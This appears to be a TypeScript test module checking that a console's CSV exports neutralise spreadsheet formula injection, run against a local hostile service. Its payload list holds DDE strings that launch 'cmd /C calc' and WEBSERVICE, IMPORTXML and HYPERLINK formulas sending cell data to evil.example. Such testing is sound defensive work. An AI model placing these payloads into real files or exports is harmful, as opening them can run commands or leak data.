/**
 * Text that spreadsheets would run, in every place where text can be entered, and every CSV file that the console
 * writes.
 */
import { mkdtempSync, readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import type { BatchFile } from '#contract/batches/batches.ts'
import type { ExportFormat } from '#contract/data-management/data-management.ts'
import { type Failure } from '#contract/failures/failures.ts'
import { sentencesOf } from '#contract/failures/sentences.ts'
import type { RecordDetail } from '#contract/history/records.ts'
import { createExports } from '#core/exports/exports.ts'
import { createChosenFiles } from '#core/files/unfinished.ts'
import { clock, connectionNamed, intentOf, lost, answer } from '../history-fixtures.ts'
import { groundConnection, openGround, type Ground } from '../../../scripts/batch-ground.ts'
import { ofDocument } from './document-check.ts'
import { inProofFolder } from './proof-folder.ts'

const signs = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\r\n@',
  ' =',
  '  +',
  '\u00a0-',
  '\u3000=',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '=-',
  '-+',
  '@@',
  '\t',
  '\r',
  '\ufeff=',
  '\u200b=',
  '"=',
  "'="
]
const tails = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  'SUM(A1:A9)',
  '"quoted", and more',
  'IMPORTXML(CONCAT("http://x/",A1),"//a")',
  'a\r\n=b',
  'DDE("cmd";"/C calc";"x")',
  '2+3;=4',
  'WEBSERVICE("http://evil.example/"&A1)',
  '\u202e)1(MUS',
  'É Ω 漢 🙂'
]

/** Prefixes after which a spreadsheet that splits there would begin another cell. */
const cuts = ['a;', 'a\t', 'a,', 'a\n', 'a";', '"a,b";']

/** 450 payloads: 300 that begin like a formula, and 150 with one after a separator. */
export const payloads: readonly string[] = [
  ...signs.flatMap((sign) => tails.map((tail) => sign + tail)),
  ...cuts.flatMap((cut) => signs.map((sign) => `${cut}${sign}1+1${cut.at(-1)}b`))
]

// Independent of the writers' own rule. Source: OWASP, "CSV Injection"; some spreadsheets trim white space before a
// sign.
const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20']

const isFormula = (cell: string): boolean =>
  starts.some((sign) => cell.replaceAll('\0', ' ').trimStart().startsWith(sign))
/** Whether a spreadsheet would interpret a cell as a formula, or as the beginning of another cell. */
export const wouldRun = (cell: string): boolean => /^[\t\r\n]/.test(cell) || isFormula(cell)

/** The separators at which spreadsheets split a CSV file, by locale or by choice. */
export const separators = { comma: ',', semicolon: ';', tab: '\t' } as const
type Separator = (typeof separators)[keyof typeof separators]

/**
 * The cells in a spreadsheet that splits at another separator than the file's. Applications differ in how they treat a
 * quote in the middle of a field: as text, or (if it comes first) as the beginning of a quoted part. Both are checked.
 */
export function cellsSplitAt(text: string, separator: string): string[] {
  const cells = text
    .replaceAll('"', '')
    .split(/[\r\n]/)
    .flatMap((line) => line.split(separator))
  for (let at = 0; at < text.length; at += 1) {
    let cell = ''
    if (text[at] === '"') {
      for (at += 1; at < text.length && (text[at] !== '"' || text[at + 1] === '"'); at += 1) {
        cell += text[at]
        if (text[at] === '"') at += 1
      }
      at += 1
    }
    for (; at < text.length && text[at] !== separator && !/[\r\n]/.test(text[at] ?? ''); at += 1) cell += text[at]
    cells.push(cell)
  }
  return cells
}

export const cellsOf = (path: string, delimiter: Separator = ','): string[] =>
  (parse(readFileSync(path), { bom: true, relax_column_count: true, delimiter }) as string[][]).flat()
export const linesOf = <T = Record<string, unknown>>(path: string): T[] =>
  readFileSync(path, 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as T)

export interface Written {
  readonly file: string
  readonly cells: number
  /** Cells that contain a payload, which shows that the file was attacked. */
  readonly attacked: number
  readonly faults: readonly string[]
}

const bare = (cell: string): string => cell.replaceAll("'", '')
const known = new Set(payloads.map(bare))

/** Counts the cells of a CSV file that a spreadsheet would run, at any separator. */
function validated(file: string, path: string, own: Separator = ','): Written {
  const cells = cellsOf(path, own)
  const attacked = cells.filter((cell) => known.has(bare(cell))).length
  const text = readFileSync(path, 'utf8').replace(/^\ufeff/, '')
  const elsewhere = Object.entries(separators).flatMap(([name, separator]) =>
    separator === own
      ? []
      : cellsSplitAt(text, separator)
          .filter(isFormula)
          .map((cell) => `${file}: ${JSON.stringify(cell)} would run where it is split at a ${name}`)
  )
  return {
    file,
    cells: cells.length,
    attacked,
    faults: [...cells.filter(wouldRun).map((cell) => `${file}: ${JSON.stringify(cell)} would run`), ...elsewhere]
  }
}

/** A lossless file: its texts are exactly the payloads, in order. */
function lossless(file: string, found: readonly (string | undefined)[], wanted: readonly string[]): Written {
  const faults = wanted.flatMap((text, n) =>
    found[n] === text ? [] : [`${file}: ${JSON.stringify(found[n])} instead of ${JSON.stringify(text)}`]
  )
  if (found.length !== wanted.length) faults.push(`${file}: ${found.length} texts instead of ${wanted.length}`)
  return { file, cells: found.length, attacked: wanted.length, faults }
}

const must = async <T>(result: Promise<{ ok: true; value: T } | { ok: false; failure: Failure }>): Promise<T> => {
  const settled = await result
  if (!settled.ok) throw new Error(`${settled.failure.code}: ${sentencesOf(settled.failure).what}`)
  return settled.value
}

/** Answers with each row's own payload; every third request is refused, every fifth gets no answer. */
async function hostileService(): Promise<{ readonly baseUrl: string; close(): void }> {
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (part) => (body += String(part)))
    request.on('end', () => {
      const n = Number((JSON.parse(body) as { applicant_id: string }).applicant_id.slice(4))
      if (n % 5 === 0) return void request.socket.destroy()
      response.writeHead(n % 3 === 0 ? 400 : 200, { 'content-type': 'application/json' })
      response.end(JSON.stringify({ message: payloads[n] }))
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => {
      server.closeAllConnections()
      server.close()
    }
  }
}

/** All files of a batch with payloads in headings and cells, run against a service that answers with payloads. */
async function batchFiles(
  ground: Ground,
  folder: string,
  [name, delimiter]: readonly [string, Separator]
): Promise<Written[]> {
  // Payloads that begin like a formula are the same for each separator; those with one after a separator are not.
  const first = delimiter === ',' ? 0 : payloads.length - 250
  const rows = payloads.map((payload, n) => [n % 7 === 0 ? '' : `ROW-${n}`, payload]).slice(first)
  const text = stringify([['applicant_id', '=cmd|calc!A0'], ...rows], { delimiter })
  const checked = await must(
    ground.batches.checkText('rows.csv', text, { operations: ['get-applicant-details'], delimiter })
  )
  const { id } = await must(
    ground.batches.create({
      checkId: checked.checkId,
      connectionId: groundConnection.id,
      name: '=1+1',
      atOnce: 8,
      pace: 0,
      skipDuplicates: false,
      skipRecent: false
    })
  )
  await must(ground.batches.start(id))
  await ground.batches.ended(id)
  const written: Written[] = []
  for (const file of ['results', 'unsuccessful', 'unknown', 'invalid'] as const satisfies readonly BatchFile[]) {
    const path = join(folder, `${file}.csv`)
    await must(ground.batches.saveTo(id, file, path))
    written.push(validated(`batch, ${file} (CSV, ${name})`, path, delimiter))
  }
  const path = join(folder, 'lossless.jsonl')
  await must(ground.batches.saveTo(id, 'lossless', path))
  const lines = linesOf<{ readonly cells: readonly string[] }>(path).slice(1)
  written.push(
    lossless(
      `batch, lossless (JSON lines, from ${name})`,
      lines.map(({ cells }) => cells[1]),
      payloads.slice(first)
    )
  )
  return written
}

const batchDraft = {
  sha256: '0'.repeat(64),
  operations: [ofDocument.id],
  atOnce: 1,
  pace: 0,
  createdAt: clock.now(),
  consoleVersion: '=1+1',
  layout: { columns: ['applicant_id'], delimiter: ',', mapping: {}, applicantColumn: 0 }
} as const

/** The history, the applicants, the batches and the catalogue, with payloads in every text that is exported as a column. */
async function exported({ store }: Ground, folder: string): Promise<Written[]> {
  let path = ''
  const exports = createExports({
    clock,
    consoleVersion: '=1+1',
    store: async () => ({ ok: true, value: store }),
    chooseSavePath: async () => path,
    files: createChosenFiles(mkdtempSync(join(folder, 'own-'))),
    auditTrail: { note: async () => undefined },
    progress: () => undefined
  })
  const before = await must(store.counts({}))
  for (const [n, payload] of payloads.entries()) {
    const connection = {
      ...connectionNamed(payloads[n % 20] ?? '', '00000000-0000-4000-8000-0000000000f1'),
      origin: payload
    }
    const begun = await must(
      store.begin({
        ...intentOf({ applicant: payload, operation: ofDocument.id, url: payload, connection }),
        operator: payload
      })
    )
    await must(store.finish(begun.id, n % 4 === 0 ? lost : answer(payload)))
    if (n % 4 === 0)
      await must(store.resolve(begun.id, 'not-processed', payload, { at: clock.now(), operator: 'prover' }))
    await must(store.applicants.tag(payload, [payload.slice(0, 30)], { at: clock.now(), operator: payload }))
    const batch = await must(
      store.batches.create({ ...batchDraft, name: payload, fileName: payload, connection, operator: payload })
    )
    await must(store.batches.add(batch.id, [{ row: 1, state: 'waiting', cells: [payload] }]))
    await must(store.batches.seal(batch.id))
  }
  const exportId = '00000000-0000-4000-8000-0000000000ee'
  const written: Written[] = []
  const all = {
    history: (format: ExportFormat) => exports.history({ exportId, filter: {}, format }),
    applicants: (format: ExportFormat) => exports.applicants({ exportId, format }),
    batches: (format: ExportFormat) => exports.batches({ exportId, format }),
    catalogue: (format: ExportFormat) => exports.catalogue({ exportId, filter: {}, format })
  }
  for (const [what, save] of Object.entries(all)) {
    path = join(folder, `${what}.csv`)
    await must(save('csv'))
    written.push(validated(`${what} (CSV)`, path))
    path = join(folder, `${what}.jsonl`)
    await must(save('jsonl'))
  }
  const records = linesOf<RecordDetail>(join(folder, 'history.jsonl')).slice(1 + before.total, -1)
  const texts = records.flatMap(({ input, fullMessage, resolved, operator, connection }) => [
    ...Object.values(input),
    fullMessage ?? resolved?.note,
    operator,
    connection.origin
  ])
  written.push(
    lossless(
      'history (JSON lines)',
      texts,
      payloads.flatMap((payload) => [payload, payload, payload, payload, payload])
    )
  )
  const ids = linesOf<{ readonly id: string }>(join(folder, 'applicants.jsonl'))
    .slice(1, -1)
    .map(({ id }) => id)
  written.push(
    lossless('applicants (JSON lines)', ids.filter((id) => payloads.includes(id)).sort(), [...payloads].sort())
  )
  const messages = linesOf<{ readonly message: string }>(join(folder, 'catalogue.jsonl'))
    .slice(1, -1)
    .map(({ message }) => message)
  const answered = payloads.filter((_, n) => n % 4 !== 0)
  written.push(
    lossless(
      'catalogue (JSON lines)',
      answered.filter((payload) => messages.includes(payload)),
      answered
    )
  )
  return written
}

/** Every CSV writer of the console with every payload, and the matching lossless file. */
export function writeEverywhere(): Promise<Written[]> {
  return inProofFolder(async (folder) => {
    const service = await hostileService()
    const ground = await openGround({
      folder: join(folder, 'history'),
      baseUrl: service.baseUrl,
      masterKey: '0123456789abcdef'.repeat(4)
    })
    try {
      const written: Written[] = []
      for (const separator of Object.entries(separators)) written.push(...(await batchFiles(ground, folder, separator)))
      return [...written, ...(await exported(ground, folder))]
    } finally {
      await ground.close()
      service.close()
    }
  })
}
